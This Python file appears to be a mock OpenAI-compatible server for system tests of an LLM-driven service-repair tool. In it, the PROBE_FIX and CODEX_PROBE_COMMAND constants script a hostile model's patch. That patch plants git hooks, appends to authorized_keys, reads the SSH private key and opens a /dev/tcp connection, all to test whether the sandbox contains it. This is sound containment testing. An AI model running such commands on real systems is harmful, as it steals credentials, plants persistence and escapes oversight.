#!/usr/bin/env python3
"""A mock OpenAI-compatible LLM server for the system tests.

Answers POST .../chat/completions with a chat completion (and usage), like
OpenAI, Ollama or llama.cpp would. Binds 127.0.0.1 on a free port chosen by
the kernel and writes that port to PORT_FILE once it listens, so the test
never races for a port. Every request is appended to LOG_FILE as one JSON
line (path, Authorization header, body) for the test to check.

POST .../responses is the OpenAI Responses API as the codex CLI speaks it
(a server-sent event stream; the event shapes follow the scripted mock the
codex transcripts were recorded with). The scripted model first asks codex
to run `cat forecast.sh` (the exec_command tool), then, once the command's
output comes back in a function_call_output, answers with the summary. It
decides from the request alone, so every run of codex gets the same script.

With MOCK_DELAY=SECONDS in its environment it answers a chat completion
only after that long: a slow model on the Pi itself.

usage: mock_openai.py PORT_FILE LOG_FILE
"""

import json
import os
import sys
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PORT_FILE, LOG_FILE = sys.argv[1], sys.argv[2]
ANSWER = (
    "# Summary (mock LLM)\n\n"
    "MOCK-SUMMARY-7f3a: this project prints the weather.\n"
)
CODEX_ANSWER = "## weather\n\nMOCK-CODEX-SUMMARY-5c1d: `forecast.sh` prints the forecast."
# JSON mode (response_format json_object) is how pm-onfailure asks for a
# diagnosis: the mock answers with one, quoting the journal line the system
# test's unit prints.
DIAGNOSIS = json.dumps({
    "cause": "MOCK-DIAGNOSIS-41b7: pm-demo cannot open /etc/demo.conf on its first start.",
    "confidence": 0.8,
    "evidence": ["error: cannot open /etc/demo.conf"],
    "action": "restart",
})
# pm-onfailure's diagnosis of scenario 8's crashing calc.service: a code
# error, for pm-patch.
CALC_DIAGNOSIS = json.dumps({
    "cause": "MOCK-DIAGNOSIS-calc: add() in calc.sh subtracts, and the service crashes on it.",
    "confidence": 0.9,
    "evidence": ["calc: add 2 3 gave -1"],
    "action": "patch",
})
# Scenario 7's pm-weather.service runs as a user (uid >= 1000): the
# evidence line is its own traceback's, which journald keeps in
# user-<uid>.journal; the reply validates only if the handler read it.
WEATHER_DIAGNOSIS = json.dumps({
    "cause": "MOCK-DIAGNOSIS-weather: read_temperature() raises on a NaN reading.",
    "confidence": 0.85,
    "evidence": ["RuntimeError: sensor returned NaN"],
    "action": "restart",
})
# Scenario 7f's pm-slow.service, killed twice while the (slow) model thinks:
# the evidence is systemd's line about the kill.
SLOW_DIAGNOSIS = json.dumps({
    "cause": "MOCK-DIAGNOSIS-slow: pm-slow was killed from outside.",
    "confidence": 0.7,
    "evidence": ["status=9/KILL"],
    "action": "restart",
})
# pm-patch's request: the fix, as a model writes it (prose and a fence).
CALC_FIX = (
    "The `add` function subtracts. Here is the fix:\n\n```diff\n"
    "--- a/calc.sh\n+++ b/calc.sh\n@@ -1,3 +1,3 @@\n add() {\n"
    "-\techo $(($1 - $2))\n+\techo $(($1 + $2))\n }\n```\n"
)
# Scenario 8's probe project: a hostile model's fix of lib.sh that also
# tries to get out of the check's containment. Each probe prints
# "ESCAPED: what" when its action worked. The network probe asks this very
# server for /probe-escaped (logged like any request). {port} is ours.
PROBE_FIX = (
    "```diff\n--- a/lib.sh\n+++ b/lib.sh\n@@ -1 +1,9 @@\n"
    "-answer() { echo 41; }\n+answer() { echo 42; }\n"
    "+probe() { if (eval \"$2\") 2>/dev/null; then echo \"ESCAPED: $1\"; else echo \"contained: $1\"; fi; }\n"
    "+probe hooks 'echo pwned > \"$(git rev-parse --git-common-dir)/hooks/post-checkout\"'\n"
    "+probe alternates 'h=$(sed \"s|/objects$|/hooks|\" \"$(git rev-parse --git-dir)/objects/info/alternates\"); echo pwned > \"$h/post-checkout\" && test -f /home/pi/probe/.git/hooks/post-checkout'\n"
    "+probe checkout 'echo pwned >> /home/pi/probe/README.md'\n"
    "+probe home 'echo pwned >> /home/pi/.ssh/authorized_keys'\n"
    "+probe key 'cat /home/pi/.ssh/id_ed25519'\n"
    "+probe store 'echo pwned > /var/lib/pimainteno/store/pwned'\n"
    "+probe network 'bash -c \"exec 3<>/dev/tcp/127.0.0.1/{port}; printf \\\"GET /probe-escaped HTTP/1.0\\\\r\\\\n\\\\r\\\\n\\\" >&3; cat <&3\"'\n"
    "```\n"
)
# The file the scripted model asks codex to read.
CODEX_COMMAND = "cat forecast.sh"


def sse(event_type, payload):
    payload = dict(payload, type=event_type)
    return f"event: {event_type}\ndata: {json.dumps(payload)}\n\n".encode()


# pm-patch's request to codex (scenario 8b): the scripted model edits
# calc.sh with sed, in codex's workspace-write sandbox.
CODEX_FIX_COMMAND = "sed -i 's/\\$1 - \\$2/$1 + $2/' calc.sh"
CODEX_FIX_ANSWER = "Fixed add() in calc.sh: it subtracted."


# Scenario 8b's probe project under codex: the scripted model's command
# reads pi's SSH key (its output comes back to this server in the next
# request), plants a hook through the worktree's alternates, then fixes.
CODEX_PROBE_COMMAND = (
    "cat /home/pi/.ssh/id_ed25519; "
    "h=$(sed 's|/objects$|/hooks|' \"$(git rev-parse --git-dir)/objects/info/alternates\"); "
    "echo pwned > \"$h/post-checkout\"; sed -i 's/41/42/' lib.sh"
)


def responses_stream(body):
    """The SSE body for one Responses API request from codex."""
    answered = any(i.get("type") == "function_call_output" for i in body.get("input", []))
    text = json.dumps(body.get("input", []))
    patching = "You fix a software project" in text
    answer = CODEX_FIX_ANSWER if patching else CODEX_ANSWER
    command = CODEX_FIX_COMMAND if patching else CODEX_COMMAND
    if patching and "answer gave" in text:
        command = CODEX_PROBE_COMMAND
    if answered:
        item = {"type": "message", "role": "assistant", "id": "msg_2", "status": "completed",
                "content": [{"type": "output_text", "text": answer, "annotations": []}]}
    else:
        item = {"type": "function_call", "name": "exec_command", "call_id": "call_1",
                "arguments": json.dumps({"cmd": command})}
    n = 2 if answered else 1
    usage = {"input_tokens": 100, "output_tokens": 20, "total_tokens": 120,
             "input_tokens_details": {"cached_tokens": 0},
             "output_tokens_details": {"reasoning_tokens": 0}}
    out = [sse("response.created", {"response": {"id": f"resp_{n}"}}),
           sse("response.output_item.added", {"output_index": 0, "item": item})]
    if answered:
        out.append(sse("response.output_text.delta", {
            "output_index": 0, "content_index": 0, "item_id": item["id"], "delta": answer}))
    out.append(sse("response.output_item.done", {"output_index": 0, "item": item}))
    out.append(sse("response.completed", {"response": {
        "id": f"resp_{n}", "status": "completed", "usage": usage}}))
    return b"".join(out)


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, fmt, *args):  # keep the harness output short
        pass

    def reply(self, status, body):
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        # Only the probe's escape attempt (scenario 8) sends a GET: logged.
        with open(LOG_FILE, "a") as log:
            log.write(json.dumps({"time": time.time(), "path": self.path, "method": "GET"}) + "\n")
        self.reply(404, {"error": {"message": "GET is not served"}})

    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(length)
        try:
            body = json.loads(raw or b"{}")
        except ValueError:
            body = {"unparsed": raw.decode(errors="replace")}
        with open(LOG_FILE, "a") as log:
            log.write(json.dumps({
                "time": time.time(),
                "path": self.path,
                "authorization": self.headers.get("Authorization"),
                "body": body,
            }) + "\n")
        delay = float(os.environ.get("MOCK_DELAY") or 0)
        if delay and not self.path.rstrip("/").endswith("/responses"):
            time.sleep(delay)
        if self.path.rstrip("/").endswith("/responses"):
            data = responses_stream(body)
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)
            return
        if not self.path.rstrip("/").endswith("/chat/completions"):
            self.reply(404, {"error": {"message": f"no route {self.path}"}})
            return
        prompt = sum(len(str(m.get("content", ""))) for m in body.get("messages", []))
        json_mode = (body.get("response_format") or {}).get("type") == "json_object"
        text = "\n".join(str(m.get("content", "")) for m in body.get("messages", []))
        if json_mode:
            if "calc.service" in text:
                content = CALC_DIAGNOSIS
            elif "pm-weather.service" in text:
                content = WEATHER_DIAGNOSIS
            elif "pm-slow.service" in text:
                content = SLOW_DIAGNOSIS
            else:
                content = DIAGNOSIS
        elif "You fix a software project" in text and "lib.sh" in text:
            content = PROBE_FIX.replace("{port}", str(self.server.server_address[1]))
        elif "You fix a software project" in text:
            content = CALC_FIX
        else:
            content = ANSWER
        self.reply(200, {
            "id": "chatcmpl-mock-1",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": body.get("model") or "mock-model",
            "choices": [{
                "index": 0,
                "message": {"role": "assistant", "content": content},
                "finish_reason": "stop",
            }],
            "usage": {
                "prompt_tokens": max(1, prompt // 4),
                "completion_tokens": 17,
                "total_tokens": max(1, prompt // 4) + 17,
            },
        })


server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
with open(PORT_FILE + ".tmp", "w") as f:
    f.write(str(server.server_address[1]))
# Renamed into place: the harness never reads a half-written port.
os.rename(PORT_FILE + ".tmp", PORT_FILE)
server.serve_forever()
